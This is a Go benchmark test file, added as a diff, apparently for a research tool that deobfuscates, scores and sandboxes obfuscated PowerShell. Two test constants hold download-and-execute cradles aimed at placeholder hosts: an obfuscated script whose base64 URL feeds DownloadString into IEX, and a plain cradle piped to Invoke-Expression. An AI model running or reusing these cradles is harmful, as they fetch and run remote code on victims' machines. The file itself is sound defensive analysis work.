@@ -1,0 +1,177 @@
+package invokedeob_test
+
+import (
+	"testing"
+
+	invokedeob "github.com/invoke-deobfuscation/invokedeob"
+	"github.com/invoke-deobfuscation/invokedeob/internal/experiments"
+)
+
+// Benchmarks regenerating each of the paper's tables and figures
+// (quick configuration; cmd/benchtables runs the paper-scale versions).
+// They double as end-to-end throughput measurements of the whole
+// pipeline: corpus generation, five deobfuscators, scoring, IOC
+// extraction and the behavioural sandbox.
+
+// BenchmarkTable1 measures Table I: obfuscation-level prevalence
+// detection over a generated corpus.
+func BenchmarkTable1(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		res := experiments.Table1(experiments.Config{Samples: 200, Seed: int64(i + 1)})
+		if res.Total == 0 {
+			b.Fatal("empty corpus")
+		}
+	}
+}
+
+// BenchmarkTable2 measures Table II: the 20-technique x 5-tool x
+// 3-position ability matrix.
+func BenchmarkTable2(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		res := experiments.Table2(experiments.Config{Quick: true, Seed: int64(i + 1)})
+		if len(res.Rows) == 0 {
+			b.Fatal("no rows")
+		}
+	}
+}
+
+// BenchmarkFigure5 measures Fig. 5: key-information recovery of the
+// five tools against ground truth.
+func BenchmarkFigure5(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		res := experiments.Figure5(experiments.Config{Quick: true, Samples: 10, Seed: int64(i + 1)})
+		if res.Samples == 0 {
+			b.Fatal("no samples")
+		}
+	}
+}
+
+// BenchmarkFigure6 measures Fig. 6: per-sample deobfuscation timing of
+// the five tools.
+func BenchmarkFigure6(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		res := experiments.Figure6(experiments.Config{Quick: true, Samples: 10, Seed: int64(i + 1)})
+		if len(res.Tools) == 0 {
+			b.Fatal("no tools")
+		}
+	}
+}
+
+// BenchmarkTable3 measures Table III: multi-layer sample handling.
+func BenchmarkTable3(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		res := experiments.Table3(experiments.Config{Quick: true, Samples: 6, Seed: int64(i + 1)})
+		if res.Samples == 0 {
+			b.Fatal("no multilayer samples")
+		}
+	}
+}
+
+// BenchmarkTable4 measures Table IV: behavioural-consistency checking
+// through the sandbox.
+func BenchmarkTable4(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		res := experiments.Table4(experiments.Config{Quick: true, Samples: 8, Seed: int64(i + 1)})
+		if res.SamplesWithNetwork == 0 {
+			b.Fatal("no networked samples")
+		}
+	}
+}
+
+// BenchmarkTable5 measures Table V: obfuscation mitigation scoring.
+func BenchmarkTable5(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		res := experiments.Table5(experiments.Config{Quick: true, Samples: 10, Seed: int64(i + 1)})
+		if res.Samples == 0 {
+			b.Fatal("no samples")
+		}
+	}
+}
+
+// BenchmarkAblation measures the engine-variant comparison from
+// DESIGN.md §6.
+func BenchmarkAblation(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		res := experiments.Ablation(experiments.Config{Quick: true, Samples: 8, Seed: int64(i + 1)})
+		if len(res.Variants) == 0 {
+			b.Fatal("no variants")
+		}
+	}
+}
+
+// BenchmarkAMSIComparison measures the §V-B AMSI-vantage comparison.
+func BenchmarkAMSIComparison(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		res := experiments.AMSIComparison(experiments.Config{Quick: true, Seed: int64(i + 1)})
+		if len(res.Rows) == 0 {
+			b.Fatal("no rows")
+		}
+	}
+}
+
+// BenchmarkDatasetFunnel measures the §IV-B1 preprocessing pipeline.
+func BenchmarkDatasetFunnel(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		res := experiments.DatasetFunnel(experiments.Config{Samples: 60, Seed: int64(i + 1)})
+		if res.Deduplicated == 0 {
+			b.Fatal("empty funnel")
+		}
+	}
+}
+
+// Micro-benchmarks of the pipeline stages on the paper's case-study
+// script.
+
+const benchScript = "I`eX (\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h')\n" +
+	"$xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n" +
+	"$lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n" +
+	"$sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n" +
+	".($psHoME[4]+$PSHOME[30]+'x') (NeW-oBJeCt Net.WebClient).downloadstring($sdfs)\n"
+
+// BenchmarkDeobfuscate measures full three-phase deobfuscation of the
+// case-study script.
+func BenchmarkDeobfuscate(b *testing.B) {
+	b.SetBytes(int64(len(benchScript)))
+	for i := 0; i < b.N; i++ {
+		if _, err := invokedeob.Deobfuscate(benchScript, nil); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+// BenchmarkScore measures obfuscation-technique detection.
+func BenchmarkScore(b *testing.B) {
+	b.SetBytes(int64(len(benchScript)))
+	for i := 0; i < b.N; i++ {
+		invokedeob.ObfuscationScore(benchScript)
+	}
+}
+
+// BenchmarkSandbox measures behavioural sandboxing.
+func BenchmarkSandbox(b *testing.B) {
+	b.SetBytes(int64(len(benchScript)))
+	for i := 0; i < b.N; i++ {
+		invokedeob.RunSandbox(benchScript)
+	}
+}
+
+// BenchmarkObfuscate measures a representative L3 obfuscation.
+func BenchmarkObfuscate(b *testing.B) {
+	const clean = "(New-Object Net.WebClient).DownloadString('https://test.example/a.ps1') | Invoke-Expression"
+	b.SetBytes(int64(len(clean)))
+	for i := 0; i < b.N; i++ {
+		if _, err := invokedeob.Obfuscate(clean, "encode-bxor", int64(i+1)); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+// BenchmarkGenerateCorpus measures wild-sample generation.
+func BenchmarkGenerateCorpus(b *testing.B) {
+	for i := 0; i < b.N; i++ {
+		samples := invokedeob.GenerateCorpus(int64(i+1), 20)
+		if len(samples) != 20 {
+			b.Fatal("bad corpus")
+		}
+	}
+}
